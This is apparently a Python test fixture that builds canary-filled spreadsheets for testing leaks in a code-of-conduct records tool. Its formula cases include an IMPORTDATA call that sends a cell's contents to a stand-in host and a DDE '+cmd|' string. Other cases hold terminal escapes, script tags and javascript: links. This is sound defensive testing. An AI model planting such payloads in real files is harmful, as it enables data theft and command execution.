"""Spreadsheets in which everything holds a canary, in every state a command may meet.

Each kind of book is made once for a session, in a file of a local Google, and copied for each
run. Only case names of the right shape and the headers of the schema are no canaries.
"""

from __future__ import annotations

import shutil
import sqlite3
from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path
from typing import Any

from sheets_coc.local.cells.cells import date_cell
from sheets_coc.local.files.main import create
from sheets_coc.local.server.google import LocalGoogle
from sheets_coc.local.state.model import RichCell, Tab
from sheets_coc.schema.columns import BY_KEY, COLUMNS, ColumnKind
from sheets_coc.schema.layouts import BY_NAME
from tests.leaks.canaries import Canaries, folded, plain

TODAY = "2026-11-21"
ALL = tuple(c.key for c in COLUMNS if c.key != "row_check")
TEN = tuple(c.key for c in COLUMNS if not c.added)
OWN = "Own remarks"
"""A column of the committee's own, which the policy classifies."""
CASES = ("amber-kite", "brisk-lamp", "civil-moss", "civil-moss/2", "dusty-fern", "early-plum",
         "faded-oar", "glad-birch")  # fmt: skip
_PLAIN: dict[str, Sequence[Any]] = {
    "reported_on": ("2025-01-15", "2026-06-01", "2024-01-10", "2026-10-01", "2024-09-01",
                    "2025-03-03", "2026-01-10", "2024-12-01"),
    "decision": ("Violation, resolved", "Violation, resolved", "Violation, flagged", "Open",
                 "Violation, resolved", "Violation, banned", "Violation, nobody identified",
                 "No violation"),
    "flag": ("no", "no", "flagged", "", "no", "banned", "", "no"),
    "banned_until": ("", "", "", "", "", "2027-03-03", "", ""),
    "expunge_on": ("2026-03-15", "", "", "", "", "never", "", "2027-01-01"),
    "goes_on": ("2026-11-10", "", "2026-11-10", "", "", "", "2026-11-10", ""),
    "policy_date": ("2026-03-15", "", "2026-03-10", "", "", "", "2026-07-10", ""),
    "responded_on": ("2025-01-16", "", "", "", "", "", "", ""),
    "decided_on": ("2025-01-20", "", "", "", "", "", "", ""),
    # Words of 2026 beside those of before would contradict each other, and codes want a key: these
    # hold canaries in the kind `of-2026`.
    "person": ("",) * 8,
    "status": ("",) * 8,
    "consequence": ("",) * 8,
}  # fmt: skip
"""What stands in the columns that hold nobody's data, so that a run goes well."""

Tabs = list[tuple[str, list[list[Any]]]]


def _cell(canaries: Canaries, key: str, row: int, column: int) -> Any:
    """A cell of a Records tab in which all is well."""
    kind = BY_KEY[key].kind
    where = f"Records {key} row {row}"
    if key == "case":
        return CASES[row]
    if key in _PLAIN:
        return _PLAIN[key][row]
    if kind in (ColumnKind.DATE, ColumnKind.DATE_OR_NEVER) or key == "not_same_as":
        return ""
    if key == "hold" and row != 4:
        return ""
    if kind is ColumnKind.PEOPLE:
        if BY_KEY[key].key == "subjects" and row == 6:
            return ""
        return f"{canaries.name(where)}; {canaries.name(where)}"
    if kind is ColumnKind.CONTACTS:
        return "" if row == 6 else f"{canaries.email(where)}\n@{canaries.word(where)}"
    return canaries.text(where)


def _narrative(rows: list[list[Any]], keys: Sequence[str]) -> None:
    """Let the summary name the people, so that there is something to scrub and to be found."""
    people, summary = keys.index("subjects"), keys.index("summary")
    for cells in rows[1:]:
        cells[summary] = f"{cells[summary]} {cells[people].split(';')[0]} was there."


def records(canaries: Canaries, keys: Sequence[str]) -> list[list[Any]]:
    """The rows of a Records tab, its header first."""
    header = [BY_KEY[key].header for key in keys]
    body = [
        [_cell(canaries, key, row, column) for column, key in enumerate(keys)]
        for row in range(len(CASES))
    ]
    rows = [header, *body]
    _narrative(rows, keys)
    return [[*cells, canaries.text("own column") if n else OWN] for n, cells in enumerate(rows)]


def members(canaries: Canaries) -> Tabs:
    """The Committee and On-call tabs."""
    names = [canaries.name("Committee name", "member") for _ in range(5)]
    committee = [["Name", "Email", "Joined", "Left", "On call", "Away", "Time zone"]]
    committee += [
        [n, canaries.email("Committee email", "member"), "2020-01-06", "", "yes", "", "UTC"]
        for n in names
    ]
    rota = [
        ["Week starting", "Primary", "Secondary", "Note", "Reminder sent"],
        ["2026-11-16", names[0], names[1], canaries.text("On-call note", "member"), ""],
        ["2026-11-23", names[2], names[3], "", ""],
        ["2026-11-30", names[4], canaries.name("On-call stranger", "member"), "", ""],
    ]
    return [("Committee", committee), ("On-call", rota)]


def _tab(number: int, title: str, rows: list[list[Any]]) -> Tab:
    """A tab with ISO dates as dates and `=…` as formulas."""

    def content(value: Any) -> Any:
        if isinstance(value, str) and len(value) == 10 and value[4:5] == value[7:8] == "-":
            return date_cell(date.fromisoformat(value))
        if isinstance(value, str) and value.startswith("="):
            return RichCell(None, value)
        return value or None

    cells = [[content(value) for value in row] for row in rows]
    width = max((len(row) for row in rows), default=1)
    return Tab(number, {"title": title}, len(rows) + 30, width + 8, cells)


def _everywhere(canaries: Canaries, tab: Tab) -> None:
    """Canaries in notes, links, drop-downs, filters, formats, protections and metadata."""
    area = {"sheetId": tab.id, "startRowIndex": 0, "endRowIndex": 3, "startColumnIndex": 0,
            "endColumnIndex": 2}  # fmt: skip
    for row, cells in enumerate(tab.rows[:4]):
        for column, old in enumerate(cells):
            cell = old if isinstance(old, RichCell) else RichCell(old)
            extra = dict(cell.extra or {})
            if row == 2 and column < 3:
                values = [{"userEnteredValue": canaries.word("drop-down")}]
                extra["dataValidation"] = {"condition": {"type": "ONE_OF_LIST", "values": values}}
            note = canaries.text("header note" if not row else "cell note")
            tab.set(
                row, column, RichCell(cell.value, cell.formula, cell.format, note, extra or None)
            )
    unprotected = {**area, "startRowIndex": 20, "endRowIndex": 21}
    tab.part("protectedRanges").append(
        {"protectedRangeId": 100 + tab.id, "range": unprotected, "warningOnly": True,
         "description": canaries.text("protected range")}
    )  # fmt: skip
    tab.part("filterViews").append(
        {"filterViewId": 200 + tab.id, "title": canaries.text("filter view"), "range": area}
    )
    condition = {"type": "TEXT_CONTAINS", "values": [{"userEnteredValue": canaries.word("format")}]}
    rule = {"ranges": [area], "booleanRule": {"condition": condition, "format": {}}}
    tab.part("conditionalFormats").append(rule)


def _file(canaries: Canaries, google: LocalGoogle, spreadsheet: str) -> None:
    """Canaries in the file's name, comments, named ranges and those who have access."""
    stranger = google.identities.add(canaries.email("account", "account"),
                                     canaries.name("account", "account"))  # fmt: skip
    with google.store.write() as state:
        book = state.spreadsheet(spreadsheet)
        share(book.file, stranger.email)
        book.file["description"] = canaries.text("file description")
        book.named_ranges.append(
            {"namedRangeId": "canary", "name": canaries.word("named range"),
             "range": {"sheetId": book.tabs[0].id, "startRowIndex": 0, "endRowIndex": 1,
                       "startColumnIndex": 0, "endColumnIndex": 1}}
        )  # fmt: skip


def share(file: dict[str, Any], address: str) -> None:
    """Let somebody edit."""
    from sheets_coc.local.auth import access

    access.share(file, address, "writer")


def comment(canaries: Canaries, google: LocalGoogle, spreadsheet: str) -> None:
    """A comment with a reply, as people leave them."""
    import requests

    session = requests.Session()
    session.mount("https://", google.adapter())
    head = {"Authorization": f"Bearer {google.token('owner')}"}
    root = f"https://www.googleapis.com/drive/v3/files/{spreadsheet}/comments"
    quoted = {"mimeType": "text/plain", "value": canaries.text("quote")}
    body = {"content": canaries.text("comment"), "quotedFileContent": quoted}
    made = session.post(root, params={"fields": "*"}, json=body, headers=head, timeout=5)
    made.raise_for_status()
    reply = {"content": canaries.text("reply")}
    at = f"{root}/{made.json()['id']}/replies"
    session.post(at, params={"fields": "*"}, json=reply, headers=head, timeout=5).raise_for_status()


# --- the kinds of book -------------------------------------------------------------------------


def _fine(canaries: Canaries) -> Tabs:
    rows = records(canaries, ALL)
    said = rows[1][ALL.index("subjects")].split(";")[0]
    gone = [[canaries.text("another tab"), f"{said} again"], [canaries.text("another tab"), ""]]
    return [
        ("Records", rows),
        *members(canaries),
        (canaries.word("tab title", "title"), gone),
        (f"About {said}", [[canaries.text("another tab"), f"{said} once more"]]),
    ]


def _ten(canaries: Canaries) -> Tabs:
    return [("Records", records(canaries, TEN)), *members(canaries)]


def _everything(canaries: Canaries) -> Tabs:
    """A canary in every cell, dates, decisions and case names included."""
    rows = [[canaries.text(f"Records {key}") for key in (*ALL, OWN)] for _ in range(5)]
    kept = [row[:] for row in rows]
    for row in kept:
        row[ALL.index("reported_on")] = "2025-01-15"
    header = [*(BY_KEY[key].header for key in ALL), OWN]
    others = [(title, [table[0], *[[canaries.text(title, "member") for _ in row]
                                   for row in table[1:]]])
              for title, table in members(canaries)]  # fmt: skip
    return [("Records", [header, *rows, *kept]), *others]


def _formulas(canaries: Canaries) -> Tabs:
    rows = records(canaries, ALL)
    told = ("=IMPORTDATA(\"https://{}.example/\"&B2)", '="{}"&B2', "=HYPERLINK(\"https://{}.example\")",
            "+cmd|'{}'", "@SUM({})", "={}(", "='{}'!A1")  # fmt: skip
    for number, cells in enumerate(rows[1:]):
        for column, key in enumerate(ALL):
            if key not in ("case", *_PLAIN) and cells[column]:
                cells[column] = told[(number + column) % len(told)].format(
                    canaries.word(f"formula in {key}")
                )
    return [("Records", rows), *members(canaries)]


def _no_header(canaries: Canaries) -> Tabs:
    return [("Records", [[canaries.text("no header") for _ in range(6)] for _ in range(6)])]


def _no_tab(canaries: Canaries) -> Tabs:
    # Where there are no records to compare with, nobody can tell that it names somebody.
    return [(canaries.name("only tab title", "title"), records(canaries, ALL))]


def _unclassified(canaries: Canaries) -> Tabs:
    rows = records(canaries, ALL)
    rows[0].append(canaries.name("header of an unknown column"))
    for cells in rows[1:]:
        cells.append(canaries.text("unknown column"))
    return [("Records", rows), *members(canaries)]


def _copied(canaries: Canaries) -> Tabs:
    """Rows that stand twice."""
    rows = records(canaries, ALL)
    rows += [row[:] for row in rows[1:4]]
    return [("Records", rows), *members(canaries)]


def _twice(canaries: Canaries) -> Tabs:
    """A header that stands twice."""
    rows = records(canaries, ALL)
    rows[0][ALL.index("event")] = rows[0][ALL.index("subjects")]
    return [("Records", rows), *members(canaries)]


def _odd(canaries: Canaries) -> Tabs:
    """Control characters, escapes for terminals, text right to left, very long cells."""
    rows = records(canaries, ALL)
    odd = ("\x1b]0;{}\x07", "\x1b[31m{}\x1b[0m", "\u202e{}\u202c", "{}\x00{}", "{}\u200b{}",
           "\r\nSubject: {}\r\n", "<script>{}</script>",
           "[x](javascript:{})", "{}\ud800")  # fmt: skip
    for number, cells in enumerate(rows[1:]):
        for column, key in enumerate(ALL):
            if key in ("case", *_PLAIN) or not cells[column]:
                continue
            word = canaries.word(f"odd text in {key}")
            cells[column] = odd[(number + column) % len(odd) - 1].format(word, word)
    for key in ("case", "reported_on", "decision", "flag", "expunge_on"):
        word = canaries.word(f"odd text in {key}")
        rows[3][ALL.index(key)] = f"\x1b[2J{word}\u202e\n{word}"
    rows[2][ALL.index("summary")] = (canaries.text("a long cell") * 2000)[:50_000]
    return [("Records", rows), *members(canaries)]


def _bare(canaries: Canaries) -> Tabs:
    """Nothing but a header, and one row half filled."""
    rows = records(canaries, ALL)
    return [("Records", [rows[0], ["", "", canaries.name("half a row")]])]


def _of_2026(canaries: Canaries) -> Tabs:
    """The sheet of 2026 with a key: words of people in codes, case names, statuses and links."""
    keys = BY_NAME["2026"].keys
    key = [["Real Name", "Person Code Name", "Also known as", "Contacts", OWN]]
    rows = [[*(heading for _, heading in BY_NAME["2026"].headings), "Recused"]]
    for number, case in enumerate(CASES):
        name = canaries.name("key name")
        word = plain(name.split()[0])
        code = word if number in (1, 5) else f"Person {number}"
        key.append([name, code, canaries.name("key alias"), canaries.email("key contact"),
                    canaries.text("key remark")])  # fmt: skip
        link = f"https://docs.google.com/document/d/{plain(canaries.word('link'))}/edit"
        cells = {
            "reported_on": _PLAIN["reported_on"][number],
            "case": f"{word}-matter" if number in (2, 5) else case,
            "person": code,
            "status": canaries.text("status") if number == 3 else "Resolved",
            "resolution_source": canaries.text("source") if number == 3 else "CoC WG",
            "safety_risk": canaries.text("risk") if number == 3 else "No",
            "ongoing_harassment": canaries.text("harassment") if number == 3 else "No",
            "decided_on": _PLAIN["reported_on"][number],
            "consequence": canaries.text("consequence") if number in (3, 4) else "Warning",
            "documents": canaries.text("documents") if number == 6 else link,
        }
        recused = canaries.name("recused") if number == 0 else ""
        rows.append([*(cells.get(one, "") for one in keys), recused])
    return [("Records", rows), ("Person Identity Key", key), *members(canaries)]


KINDS: dict[str, Callable[[Canaries], Tabs]] = {
    "fine": _fine,
    "ten": _ten,
    "everything": _everything,
    "formulas": _formulas,
    "no-header": _no_header,
    "no-tab": _no_tab,
    "unclassified": _unclassified,
    "copied": _copied,
    "twice": _twice,
    "odd": _odd,
    "bare": _bare,
    "of-2026": _of_2026,
}


class Library:
    """The books of a session.

    Args:
        folder: where they are kept.
        canaries: what goes into them.

    Attributes:
        canaries: what goes into them.
        places: for each kind that was made, the words that stand in each place of it.
    """

    def __init__(self, folder: Path, canaries: Canaries) -> None:
        self.canaries = canaries
        self.places: dict[str, dict[str, list[str]]] = {}
        self._folder = folder
        self._blank = folder / "blank.coc"
        google = LocalGoogle(self._blank)
        key = google.identities.key_file("tool")["private_key"]
        canaries.secret("private key", key.splitlines()[5])

    def path(self, kind: str) -> Path:
        """The book of a kind, made when it is first asked for. Not to be written to."""
        path = self._folder / f"{kind}.coc"
        if not path.exists():
            shutil.copyfile(self._blank, path)
            google = LocalGoogle(path)
            before = {where: len(words) for where, words in self.canaries.places.items()}
            made_of = KINDS[kind](self.canaries)
            tabs = [_tab(n, t, rows) for n, (t, rows) in enumerate(made_of)]
            for tab in tabs[:1] if kind == "odd" else tabs:
                _everywhere(self.canaries, tab)
            made = create(google.store, self.canaries.text("file title"), tabs)
            _file(self.canaries, google, made)
            comment(self.canaries, google, made)
            stands = folded(str(made_of))  # some words were drawn and written over
            self.places[kind] = {
                where: [word for word in words[before.get(where, 0) :] if word in stands]
                for where, words in self.canaries.places.items()
            }
        return path

    def copy(self, kind: str, folder: Path) -> Path:
        """A copy to work on; its name is a canary too."""
        path = folder / f"{self.canaries.word('file name', 'path')}.coc"
        if kind == "no-spreadsheet":
            path.write_text(self.canaries.text("no spreadsheet at all") * 100)
        elif kind == "foreign":
            with sqlite3.connect(path) as connection:
                connection.execute(f"CREATE TABLE {self.canaries.word('foreign table')} (a)")
            connection.close()
        elif kind != "missing":
            shutil.copyfile(self.path(kind), path)
        return path


STATES = (*KINDS, "no-spreadsheet", "foreign", "missing")
"""Every kind of book, and what is none."""
